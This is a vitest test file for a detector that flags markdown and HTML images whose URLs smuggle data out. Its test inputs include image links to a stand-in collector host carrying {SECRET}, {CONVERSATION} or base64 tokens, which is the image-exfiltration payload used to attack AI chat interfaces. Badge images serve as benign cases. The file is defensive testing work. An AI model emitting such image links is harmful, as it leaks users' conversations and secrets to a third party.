import { describe, expect, it } from 'vitest';
import { findImageExfil } from './markdown-exfil.js';

const severities = (t: string) => findImageExfil(t).map((f) => f.severity ?? 'flag');

describe('images whose URL carries data', () => {
  it('reports a placeholder with a data key (block), and a long opaque value (flag)', () => {
    expect(severities('![x](https://collect.example/log?data={SECRET})')).toEqual(['block']);
    expect(
      severities('![x](https://collect.example/?q=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCB0b2tlbg)'),
    ).toEqual(['flag']);
    expect(
      severities('![x](https://collect.example/?logo=data:image/png;base64,{CONVERSATION})'),
    ).toEqual(['block']);
  });
  it('reads an image written inline as a data URI as an image (README badges)', () => {
    const badge =
      '[![badge](https://img.shields.io/badge/conan.io-jsoncpp%2F1.8.0-green.svg?logo=data:image/png;base64%2CiVBORw0KGgoAAAANSUhEUgAAAA4AAAAOCAMAAAAolt3jAAAA1VBMVEUAAABhlctjlstkl8tlmMtlmMxlmcxmmcxnmsxpnMxpnM1qnc1sn85voM91oM11oc1xotB2oc56pNF6pNJ2ptJ8ptJ8ptN9ptN8p9N5qNJ9p9N9p9R8qtOBqdSAqtOAqtR%2BrNSCrNJ/rdW)](https://conan.io)';
    expect(severities(badge)).toEqual([]);
    const html =
      '<img alt="NPM" src="https://img.shields.io/npm/v/pkg?color=brightgreen&logo=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgoAAAANSUhEUgAAABgAAAAYCAYAAADgdz34AAAAAXNSR0IArs4c6QAAAIRlWElmTU0AKgAAAAgABQESAAMAAAABAAEAAAEaAAUAAAABAAAASgEbAAUAAAABAAAAUgEoAAMAAAABAAIAAIdpAAQAAAAB">';
    expect(severities(html)).toEqual([]);
    // any other long value in the same query still counts
    const both =
      '![x](https://collect.example/p?logo=data:image/png;base64,iVBORw0KGgo&k=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCB0b2tlbg)';
    expect(severities(both)).toEqual(['flag']);
  });
});
